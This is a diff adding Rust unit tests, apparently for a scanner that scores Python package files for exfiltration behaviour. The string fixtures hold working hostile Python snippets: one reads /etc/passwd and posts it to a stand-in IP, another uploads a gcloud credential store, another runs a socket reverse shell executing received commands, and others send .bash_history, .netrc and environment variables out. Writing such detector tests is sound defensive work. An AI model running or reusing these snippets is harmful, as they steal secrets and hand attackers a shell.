@@ -625,6 +625,26 @@ mod tests {
     }
 
     #[test]
+    fn more_origins_of_stolen_data_and_commands() {
+        // Captured output of a recon command.
+        let recon = "import subprocess, requests\nout = subprocess.run(['cat', '/etc/passwd'], capture_output=True).stdout\nrequests.post('http://203.0.113.41/p', data=out)\n";
+        assert!(max_severity("p/pkg/__init__.py", recon, "WH200") >= 0.6);
+        let quiet = "import subprocess, requests\nsubprocess.run(['cat', '/etc/passwd'])\nrequests.post('http://203.0.113.41/p', data='x')\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", quiet, "WH200"), 0.0);
+        // A pathlib path under a credential store, read whole.
+        let pathlib = "import requests\nfrom pathlib import Path\ncfg = Path.home() / '.config' / 'gcloud' / 'credentials.db'\nrequests.post('https://example.invalid/g', files={'f': cfg.read_bytes()})\n";
+        assert!(max_severity("p/pkg/__init__.py", pathlib, "WH200") >= 0.6);
+        // Commands received on a connected socket.
+        let shell = "import socket, subprocess\ns = socket.create_connection(('203.0.113.44', 9001))\ncmd = s.recv(1024).decode()\nsubprocess.check_output(cmd, shell=True)\n";
+        assert!(max_severity("p/pkg/__init__.py", shell, "WH200") >= 0.6);
+        // Each store of a listed set.
+        let listed = "import os, requests\nfor name in ['.bash_history', '.netrc']:\n    requests.post('https://example.invalid/h', data=open(os.path.join(os.path.expanduser('~'), name)).read())\n";
+        assert!(max_severity("p/pkg/__init__.py", listed, "WH200") >= 0.6);
+        let plain = "import os, requests\nfor name in ['README.md', 'CHANGES.md']:\n    requests.post('https://example.invalid/h', data=open(name).read())\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", plain, "WH200"), 0.0);
+    }
+
+    #[test]
     fn mail_and_ftp_sessions_are_network_sinks() {
         let mail = "import os, smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\nm.set_content(str(dict(os.environ)))\ns = smtplib.SMTP('smtp.example.invalid', 587)\ns.send_message(m)\n";
         assert!(max_severity("p/pkg/__init__.py", mail, "WH200") >= 0.6);
